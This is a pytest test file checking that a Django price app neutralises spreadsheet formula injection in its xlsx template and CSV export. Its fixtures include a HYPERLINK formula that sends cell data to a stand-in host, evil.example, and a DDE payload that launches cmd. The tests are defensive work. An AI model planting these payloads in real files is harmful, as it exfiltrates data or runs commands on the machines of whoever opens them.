"""Formula-like text is kept as written in the database and neutralised in every file PriceHub
writes (the vendor price template, the offers CSV export), read back as a spreadsheet would."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.test import RequestFactory
from openpyxl import load_workbook

from documents.price_template import HEADERS, build_vendor_price_template
from offers.csv_export import COLUMNS, export_offers_csv
from offers.models import Offer
from pricehub.cell_safety import neutralise

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.50"), 0, 629.0, None, "", "iPhone 15", "A=B", "'quoted",
                                   " =leading space"])
def test_numbers_and_other_text_are_left_alone(value):
    assert neutralise(value) is value


def test_the_template_neutralises_its_text_cells_and_keeps_numbers_numbers(tmp_path):
    rows = [(ATTACKS[0], ATTACKS[2], 629.0, -3, ATTACKS[3]), ("SKU-1", "-5% promo", -10.5, 2, "New")]
    path = tmp_path / "template.xlsx"
    path.write_bytes(build_vendor_price_template(rows=rows))
    sheet = load_workbook(path)["Prices"]
    assert [cell.value for cell in sheet[1]] == list(HEADERS)
    second, third = ([(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2, max_row=3))
    assert second == [("'" + ATTACKS[0], "s"), ("'" + ATTACKS[2], "s"), (629, "n"), (-3, "n"), ("'" + ATTACKS[3], "s")]
    assert third == [("SKU-1", "s"), ("'-5% promo", "s"), (-10.5, "n"), (2, "n"), ("New", "s")]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)  # no formula at all


def test_the_default_template_is_unchanged_by_the_neutraliser(tmp_path):
    path = tmp_path / "template.xlsx"
    path.write_bytes(build_vendor_price_template())
    sheet = load_workbook(path)["Prices"]
    assert sheet["A2"].value == "SM-S921B-128-BLK" and sheet["C2"].value == 629


@pytest.fixture
def hostile_offer(build):
    vendor = build.vendor(name="@Evil Traders")
    product = build.product(name="=1+1 Phone")
    return build.offer(vendor=vendor, product=product, price="749.50", currency="EUR", sku="+SKU-9",
                       description=ATTACKS[0], quantity=3, source_ref="-Prices!2", source_document=build.document())


def read_csv(response, tmp_path):
    path = tmp_path / "offers.csv"
    path.write_bytes(b"".join(response.streaming_content))
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def test_the_offers_export_keeps_the_database_as_written_and_neutralises_the_file(hostile_offer, staff_user, tmp_path):
    stored = Offer.objects.values("sku", "description", "source_ref").get(pk=hostile_offer.pk)
    assert stored == {"sku": "+SKU-9", "description": ATTACKS[0], "source_ref": "-Prices!2"}  # as written

    request = RequestFactory().post("/admin/offers/offer/")
    request.user = staff_user
    response = export_offers_csv(admin.site._registry[Offer], request, Offer.objects.all())
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="offers-' in response["Content-Disposition"]
    header, row = read_csv(response, tmp_path)
    assert header == list(COLUMNS)
    cells = dict(zip(header, row))
    assert cells["vendor"] == "'@Evil Traders" and cells["product"] == "'=1+1 Phone"
    assert cells["sku"] == "'+SKU-9" and cells["description"] == "'" + ATTACKS[0]
    assert cells["source_ref"] == "'-Prices!2"
    assert (cells["price"], cells["currency"], cells["quantity"]) == ("749.50", "EUR", "3")
    assert cells["id"] == str(hostile_offer.pk) and cells["source_document_id"] == str(hostile_offer.source_document_id)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_offers_export_streams_every_selected_offer(build, staff_user, tmp_path):
    vendor, product = build.vendor(), build.product()
    offers = [build.offer(vendor=vendor, product=product, price=f"{n}.00", history=False) for n in range(1, 6)]
    request = RequestFactory().post("/admin/offers/offer/")
    request.user = staff_user
    response = export_offers_csv(None, request, Offer.objects.filter(pk__in=[o.pk for o in offers[:4]]))
    rows = read_csv(response, tmp_path)[1:]
    assert [row[0] for row in rows] == [str(o.pk) for o in reversed(offers[:4])]  # newest first


def test_operators_export_from_the_offers_list(staff_client, hostile_offer, tmp_path):
    response = staff_client.post("/admin/offers/offer/", {
        "action": "export_offers_csv", "_selected_action": [hostile_offer.pk],
    })
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body)))[1][4] == "'" + ATTACKS[0]
